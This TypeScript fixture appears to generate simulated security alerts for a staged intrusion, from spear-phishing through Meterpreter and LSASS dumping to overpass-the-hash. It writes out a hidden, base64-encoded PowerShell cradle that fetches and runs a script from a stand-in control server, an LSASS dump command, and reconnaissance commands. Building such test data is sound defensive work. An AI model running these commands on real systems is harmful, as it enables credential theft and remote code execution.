/**
 * The second story: spear-phishing, a Meterpreter payload, reconnaissance, overpass-the-hash as a member of the
 * IT helpdesk, stolen web credentials, a macro in a shared document, and lateral phishing.
 *
 * This file has the people and the part up to the helpdesk account; `story-lateral-spread.ts` has what follows.
 */
import { Buffer } from 'node:buffer';

import type { AlertSpec } from './alert.ts';
import type { MailSpec, ProcessSpec } from './evidence.ts';
import {
  file,
  ip,
  machine,
  mailbox,
  message,
  networkMessageId,
  process,
  systemFile,
  url,
  user,
} from './evidence.ts';
import { device, person } from './organisation.ts';

/** Who opens the mail. */
export const jonas = person('Jonas Feldmann', 'jonas.feldmann');
/** Whose credentials are on the first device. */
export const helpdesk = person('Tomás Okafor (IT helpdesk)', 'tomas.okafor');
/** Whose device is reached from the first. */
export const mei = person('Mei Lindqvist', 'mei.lindqvist');
/** Where the story begins. */
export const firstDevice = device('wks-pur-0087', 'Windows10', 'Purchasing workstations', ['Purchasing']);
/** Where it goes from there. */
export const secondDevice = device('wks-leg-0031', 'Windows11', 'Legal workstations', [
  'Legal',
  'High value',
]);
const domainController = device('dc-north-01', 'WindowsServer2022', 'Domain controllers', ['Tier 0']);

const LINK = 'https://files.northwind-tenders.example/d/tender-2231/NW-Tender-Viewer.exe';
const MAIL_SERVER = '192.0.2.140';
/** Command and control of the payload. */
export const CONTROL_SERVER = '203.0.113.199';

const spearMail: MailSpec = {
  label: 'tender',
  recipient: jonas,
  from: { address: 'l.brandt@northwind-tenders.example', displayName: 'Lena Brandt | Northwind Traders' },
  subject: 'Tender 2231: revised drawings for your comments by noon',
  receivedAt: '2025-06-10T06:47:35Z',
  senderIp: MAIL_SERVER,
  urls: [LINK],
  attachments: 0,
  direction: 'inbound',
  threats: ['Phish', 'Malware'],
  methods: ['URL malicious reputation'],
};

/** The file that is downloaded and run. */
export const payload = {
  name: 'NW-Tender-Viewer.exe',
  path: 'C:\\Users\\jfeldmann\\Downloads',
  size: 73_802,
  content: 'meterpreter payload',
};

const explorer: ProcessSpec = {
  image: systemFile('explorer.exe', 'C:\\Windows'),
  id: 5088,
  at: '2025-06-10T05:58:12.0071104Z',
  commandLine: 'C:\\Windows\\Explorer.EXE',
  by: jonas,
};
const browser: ProcessSpec = {
  image: systemFile('msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application'),
  id: 9312,
  at: '2025-06-10T06:55:40.3371902Z',
  commandLine: `"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument ${LINK}`,
  by: jonas,
};
const viewer: ProcessSpec = {
  image: payload,
  id: 10644,
  at: '2025-06-10T06:58:21.4410093Z',
  commandLine: `"${payload.path}\\${payload.name}"`,
  by: jonas,
};

/** What the encoded command says. Plain enough that a scanner does not take the sample itself for an attack. */
const CRADLE = `Invoke-WebRequest -Uri http://${CONTROL_SERVER}:8080/stage2 -OutFile $env:TEMP\\s2.ps1; & $env:TEMP\\s2.ps1`;
const ENCODED_CRADLE = Buffer.from(CRADLE, 'utf16le').toString('base64');

const shell: ProcessSpec = {
  image: systemFile('cmd.exe'),
  id: 10988,
  at: '2025-06-10T07:01:55.9002231Z',
  commandLine: 'C:\\Windows\\System32\\cmd.exe /c start /min powershell.exe -NoP -W Hidden -Enc …',
  by: jonas,
};
const powershell: ProcessSpec = {
  image: systemFile('powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0'),
  id: 11020,
  at: '2025-06-10T07:01:56.1170094Z',
  commandLine: `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand ${ENCODED_CRADLE}`,
  by: jonas,
};

function explore(id: number, at: string, name: string, commandLine: string): ProcessSpec {
  return { image: systemFile(name), id, at, commandLine, by: jonas };
}
const exploration = [
  explore(11412, '2025-06-10T07:29:03.1140071Z', 'quser.exe', 'quser'),
  explore(11436, '2025-06-10T07:29:41.7710025Z', 'net.exe', 'net localgroup Administrators'),
  explore(11452, '2025-06-10T07:30:15.2090088Z', 'net.exe', 'net group "IT Helpdesk" /domain'),
  explore(11480, '2025-06-10T07:31:22.6610043Z', 'nltest.exe', 'nltest /dclist:corp.contoso.com'),
  explore(11504, '2025-06-10T07:32:08.0480012Z', 'cmd.exe', `cmd.exe /c dir \\\\${secondDevice.name}\\C$`),
];
const dumper: ProcessSpec = {
  image: systemFile('rundll32.exe'),
  id: 11920,
  at: '2025-06-10T08:03:47.5190026Z',
  commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\d.bin full',
  by: jonas,
};
const lsass: ProcessSpec = {
  image: systemFile('lsass.exe'),
  id: 724,
  at: '2025-06-10T05:51:09.8800013Z',
  commandLine: 'C:\\Windows\\system32\\lsass.exe',
  by: null,
};

const suspect = { verdict: 'suspicious', remediation: 'active' } as const;
const compromisedDevice = machine(firstDevice, { ...suspect, roles: ['compromised'] }, [jonas]);
const compromisedJonas = user(jonas, {
  verdict: 'suspicious',
  remediation: 'active',
  roles: ['compromised'],
});

/** Spear-phishing to credential theft on the first device. */
export const LATERAL_STORY_ENTRY: readonly AlertSpec[] = [
  {
    key: 'spear mail delivered',
    service: 'office365',
    title: 'Phish delivered due to an IP allow policy',
    description:
      'A message found to be phishing was delivered to the inbox because the connection filter allows the address that sent it. One mailbox was addressed.',
    actions: [
      'Remove the address from the allow list.',
      'Remove the message and find out whether its link was opened.',
    ],
    category: 'InitialAccess',
    severity: 'informational',
    techniques: ['T1566.002'],
    first: '2025-06-10T06:47:35Z',
    investigationState: 'queued',
    evidence: [
      message(spearMail, { verdict: 'malicious', remediation: 'active' }),
      url(LINK, { verdict: 'malicious', remediation: 'active', roles: ['suspicious'] }),
      mailbox(jonas, { roles: ['attacked'] }),
      ip(MAIL_SERVER, 'SE', { verdict: 'suspicious', roles: ['source'] }),
    ],
  },
  {
    key: 'spear click',
    service: 'office365',
    title: 'A user clicked through to a potentially malicious URL',
    description: 'The user passed the warning page and went on to a URL that downloads a program.',
    actions: ['Find out whether the program was started.', 'Block the URL for the tenant.'],
    category: 'InitialAccess',
    severity: 'high',
    techniques: ['T1566.002', 'T1204.001'],
    first: '2025-06-10T06:55:41Z',
    details: {
      NetworkMessageId: networkMessageId(spearMail),
      ClickAction: 'ClickedThrough',
      Workload: 'Email',
    },
    evidence: [
      message(spearMail, { verdict: 'malicious', remediation: 'active' }),
      url(LINK, { verdict: 'malicious', remediation: 'active', roles: ['suspicious'] }),
      user(jonas, { verdict: 'suspicious', roles: ['compromised'] }),
      mailbox(jonas, { roles: ['attacked'] }),
    ],
  },
  {
    key: 'meterpreter payload',
    service: 'endpoint',
    detectionSource: 'antivirus',
    title: "'Meterpreter' malware was detected",
    description:
      'A downloaded program loaded code of the Meterpreter post-exploitation tool into its own memory and opened a connection to an outside address. The program was running when it was found.',
    actions: [
      'Isolate the device.',
      'Collect an investigation package before the program is stopped.',
      'Block the address of its server.',
    ],
    category: 'Execution',
    severity: 'high',
    techniques: ['T1204.002', 'T1071.001'],
    threat: { name: 'Trojan:Win64/Meterpreter.E', family: 'Meterpreter' },
    first: '2025-06-10T06:58:21.4410093Z',
    last: '2025-06-10T06:59:02.1180093Z',
    investigationState: 'partiallyRemediated',
    evidence: [
      compromisedDevice,
      compromisedJonas,
      file(payload, firstDevice, { verdict: 'malicious', remediation: 'active' }),
      process(browser, explorer, firstDevice, { verdict: 'noThreatsFound', roles: ['contextual'] }),
      process(viewer, browser, firstDevice, { verdict: 'malicious', remediation: 'active' }),
      url(LINK, { verdict: 'malicious', remediation: 'active', roles: ['source'] }),
      ip(CONTROL_SERVER, 'US', {
        verdict: 'malicious',
        remediation: 'active',
        roles: ['commandAndControl', 'destination'],
      }),
    ],
  },
  {
    key: 'encoded powershell',
    service: 'endpoint',
    title: 'Suspicious PowerShell command line',
    description:
      'PowerShell was started hidden, with a command encoded in base64 that downloads and runs a script from an outside address.',
    actions: [
      'Decode the command and block the address in it.',
      'Look for further processes under this one.',
    ],
    category: 'Execution',
    severity: 'medium',
    techniques: ['T1059.001', 'T1027.010', 'T1105'],
    first: '2025-06-10T07:01:56.1170094Z',
    last: '2025-06-10T07:03:12.4010094Z',
    evidence: [
      compromisedDevice,
      compromisedJonas,
      process(viewer, browser, firstDevice, { verdict: 'malicious', remediation: 'active' }),
      process(shell, viewer, firstDevice, suspect),
      process(powershell, shell, firstDevice, { verdict: 'malicious', remediation: 'active' }),
      ip(CONTROL_SERVER, 'US', { verdict: 'malicious', remediation: 'active', roles: ['commandAndControl'] }),
    ],
  },
  {
    key: 'exploration',
    service: 'endpoint',
    title: 'Suspicious sequence of exploration activities',
    description:
      'Within three minutes one parent process asked who is signed in to this device, who administers it, who is in the helpdesk group, and which other devices can be reached.',
    actions: ['Compare with the usual work of the user.', 'Look at the parent process.'],
    category: 'Discovery',
    severity: 'low',
    techniques: ['T1033', 'T1069.002', 'T1018', 'T1135'],
    first: '2025-06-10T07:29:03.1140071Z',
    last: '2025-06-10T07:32:08.0480012Z',
    evidence: [
      compromisedDevice,
      compromisedJonas,
      process(powershell, shell, firstDevice, { verdict: 'malicious', remediation: 'active' }),
      ...exploration.map((step) => process(step, powershell, firstDevice, suspect)),
    ],
  },
  {
    key: 'smb sessions enumerated',
    service: 'identity',
    detector: 'EnumerateSessionsSecurityAlert',
    title: 'User and IP address reconnaissance (SMB)',
    description: `${jonas.displayName} on ${firstDevice.name} listed the SMB sessions of ${domainController.name} and so learnt on which devices two accounts are signed in.`,
    actions: [
      'Ask whether the user runs administration tools.',
      'Watch the two accounts for sign-ins from this device.',
    ],
    category: 'Discovery',
    severity: 'medium',
    techniques: ['T1049', 'T1087.002'],
    first: '2025-06-10T07:38:50.2200000Z',
    last: '2025-06-10T07:39:14.0000000Z',
    evidence: [
      user(jonas, { verdict: 'suspicious', roles: ['source'] }),
      machine(firstDevice, { verdict: 'suspicious', roles: ['source'] }),
      machine(domainController, { roles: ['scanned', 'destination'] }),
      user(helpdesk, { roles: ['scanned'] }),
      user(mei, { roles: ['scanned'] }),
    ],
  },
  {
    key: 'lsass read',
    service: 'endpoint',
    title: 'Sensitive credential memory read',
    description:
      'The memory of the Local Security Authority process was written to a file. It holds the credentials of everybody signed in, among them a member of the IT helpdesk who had left a session open.',
    actions: [
      'Take every account with a session on this device for known to the attacker.',
      'Reset their passwords and end their sessions.',
      'Delete the dump after it has been preserved.',
    ],
    category: 'CredentialAccess',
    severity: 'high',
    techniques: ['T1003.001', 'T1218.011'],
    first: '2025-06-10T08:03:47.5190026Z',
    last: '2025-06-10T08:03:49.0010026Z',
    evidence: [
      machine(firstDevice, { ...suspect, roles: ['compromised'] }, [jonas, helpdesk]),
      compromisedJonas,
      process(dumper, powershell, firstDevice, { verdict: 'malicious', remediation: 'active' }),
      process(lsass, null, firstDevice, { verdict: 'noThreatsFound', roles: ['attacked'] }),
      file(
        { name: 'd.bin', path: 'C:\\Users\\Public', size: 61_338_624, content: 'lsass dump' },
        firstDevice,
        { verdict: 'suspicious', remediation: 'active', roles: ['created'] },
      ),
      user(helpdesk, { verdict: 'suspicious', roles: ['compromised'] }),
    ],
  },
  {
    key: 'overpass the hash',
    service: 'identity',
    detector: 'OverPassTheHashSecurityAlert',
    title: 'Suspected overpass-the-hash attack (Kerberos)',
    description: `A Kerberos ticket for ${helpdesk.accountName} was requested from ${firstDevice.name} with an encryption type that this account does not otherwise use there: somebody may have its password hash.`,
    actions: [
      'Reset the password of the account twice.',
      'Look for sign-ins of the account since the ticket was granted.',
      'Isolate the source device.',
    ],
    category: 'LateralMovement',
    severity: 'high',
    techniques: ['T1550.002', 'T1550.003'],
    first: '2025-06-10T08:41:18.0700000Z',
    last: '2025-06-10T08:41:18.0700000Z',
    evidence: [
      user(helpdesk, { verdict: 'suspicious', remediation: 'active', roles: ['compromised'] }),
      machine(firstDevice, { verdict: 'suspicious', roles: ['source'] }),
      machine(domainController, { roles: ['destination'] }),
    ],
  },
];
